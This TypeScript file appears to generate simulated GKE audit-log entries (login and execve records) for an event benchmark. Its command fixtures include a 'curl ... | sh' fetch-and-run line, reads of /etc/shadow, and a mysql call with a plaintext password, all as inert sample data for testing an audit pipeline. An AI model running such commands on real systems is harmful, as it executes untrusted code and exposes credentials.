/**
 * Cloud Logging entries for the endpoint side of `yarn bench:events`:
 * what the fluent-bit agent ships for one cluster (resource `k8s_node`,
 * journald's fields in jsonPayload), built with the simulator's own
 * record writers and shipping shape (`journalRecord`, `auditLogEntry`).
 */
import {
  AgentNode,
  AuditSource,
  auditLogEntry,
  execveRecords,
  journalRecord,
  pamRecord,
  SimulatedAuditRecord,
  userCommandRecord,
  userLoginRecord,
} from '@cos-auditd/gke-sim';

/** A LogEntry as `sim.logging.store.write` takes it. */
export type BenchLogEntry = ReturnType<typeof auditLogEntry>;

export type EntriesSpec = {
  project: string;
  location: string;
  clusterName: string;
  nodes: number;
  /** Login records (one event each), every one matching `type=login`. */
  logins: number;
  /** Execve events (SYSCALL + EXECVE + CWD + PATH×2 + PROCTITLE), each matching `type=execve`. */
  execves: number;
  /** The events are spread evenly over [now − windowMs, now − 1 s]. */
  nowMs: number;
  windowMs: number;
};

const COMMANDS: Array<{ exe: string; argv: string[]; cwd: string }> = [
  { exe: '/usr/bin/id', argv: ['id'], cwd: '/home/alice_example_com' },
  { exe: '/bin/ls', argv: ['ls', '-la', '/root'], cwd: '/root' },
  { exe: '/bin/cat', argv: ['cat', '/etc/shadow'], cwd: '/root' },
  {
    exe: '/home/kubernetes/bin/crictl',
    argv: ['crictl', 'exec', '-it', '3f2a9c', 'sh'],
    cwd: '/home/alice_example_com',
  },
  {
    exe: '/sbin/iptables',
    argv: ['iptables', '-w', '-t', 'nat', '-S', 'KUBE-SERVICES'],
    cwd: '/',
  },
  {
    exe: '/bin/sh',
    argv: ['sh', '-c', 'curl -s https://example.com/run.sh | sh'],
    cwd: '/app',
  },
  {
    exe: '/usr/bin/mysql',
    argv: ['mysql', '-u', 'root', '--password=hunter2', 'prod'],
    cwd: '/home/bob_example_com',
  },
];

const USERS = ['alice_example_com', 'bob_example_com', 'root'];

/**
 * The entries, oldest first: logins and execve events interleaved in time,
 * round-robin over the nodes, each event its own serial on its node.
 */
export function benchLogEntries(spec: EntriesSpec): BenchLogEntry[] {
  const source: AuditSource = {
    project: spec.project,
    location: spec.location,
    clusterName: spec.clusterName,
    agentReadyNodes: () => [],
    agentConfig: () => undefined,
  };
  const nodes: AgentNode[] = Array.from({ length: spec.nodes }, (_, i) => ({
    name: `gke-${spec.clusterName}-default-pool-5f0c2a1e-${String(i).padStart(
      4,
      '0',
    )}`,
    pool: 'default-pool',
    arch: 'amd64',
    providerID: `gce://${spec.project}/${spec.location}/node-${i}`,
    zone: spec.location,
    instanceId: String(4_000_000_000_000_000 + i),
  }));
  const journals = nodes.map((node, i) => ({
    node,
    bootId: `b007${String(i).padStart(28, '0')}`,
    machineId: `3ac8${String(i).padStart(28, '0')}`,
  }));
  const serials = nodes.map(() => 40_000);

  const total = spec.logins + spec.execves;
  const first = spec.nowMs - spec.windowMs;
  const step = (spec.windowMs - 1000) / Math.max(1, total);
  const entries: BenchLogEntry[] = [];
  let logins = 0;
  let execves = 0;
  for (let i = 0; i < total; i++) {
    // Interleave the two kinds in proportion.
    const login =
      execves >= spec.execves ||
      (logins < spec.logins && logins * spec.execves <= execves * spec.logins);
    const n = i % nodes.length;
    const event = {
      serial: serials[n]++,
      timeMs: Math.floor(first + i * step),
    };
    const records = login
      ? [loginRecord(logins++)]
      : execveEventRecords(execves++);
    records.forEach((record, index) => {
      const payload = journalRecord(journals[n], event, record);
      // journald receives the records of an event within a millisecond or two.
      const timestamp = new Date(event.timeMs + 1 + index).toISOString();
      entries.push(
        auditLogEntry('fluent-bit', source, nodes[n], payload, timestamp),
      );
    });
  }
  return entries;
}

function loginRecord(i: number): SimulatedAuditRecord {
  const sender = {
    pid: 2000 + (i % 50000),
    uid: 0,
    auid: i % 3 === 0 ? 4294967295 : 1001001,
    ses: i % 3 === 0 ? 4294967295 : 1 + (i % 90),
  };
  const failed = i % 7 === 3;
  const login = {
    acct: failed ? '(unknown)' : USERS[i % USERS.length],
    exe: '/usr/sbin/sshd',
    hostname: `203.0.113.${i % 250}`,
    addr: `203.0.113.${i % 250}`,
    terminal: 'ssh',
    res: failed ? ('failed' as const) : ('success' as const),
  };
  switch (i % 8) {
    case 0:
      return pamRecord('USER_AUTH', sender, login);
    case 1:
      return pamRecord('USER_ACCT', sender, login);
    case 2:
      return pamRecord('CRED_ACQ', sender, login);
    case 3:
      return userLoginRecord(sender, login, failed ? undefined : 1001001);
    case 4:
      return pamRecord('USER_START', sender, login);
    case 5:
      return userCommandRecord(
        { ...sender, uid: 1001001 },
        {
          cwd: '/home/alice_example_com',
          cmd: '/bin/cat /etc/shadow',
          terminal: 'pts/0',
        },
      );
    case 6:
      return pamRecord('USER_END', sender, login);
    default:
      return pamRecord('CRED_DISP', sender, login);
  }
}

function execveEventRecords(i: number): SimulatedAuditRecord[] {
  const command = COMMANDS[i % COMMANDS.length];
  const uid = i % 2 === 0 ? 0 : 1001001;
  const pid = 3000 + (i % 60000);
  return execveRecords({
    arch: 'amd64',
    process: {
      pid,
      ppid: pid - 1,
      uid,
      gid: uid,
      auid: i % 3 === 0 ? 4294967295 : 1001001,
      ses: i % 3 === 0 ? 4294967295 : 1 + (i % 90),
      tty: i % 3 === 0 ? '(none)' : 'pts0',
    },
    exe: command.exe,
    argv: command.argv,
    cwd: command.cwd,
    inodes: [100_000 + (i % 9000), 200_000 + (i % 9000)],
    pointers: [
      (0x55d0_0000_0000 + i * 64).toString(16),
      (0x55d0_1000_0000 + i * 64).toString(16),
      (0x55d0_2000_0000 + i * 64).toString(16),
    ],
  });
}
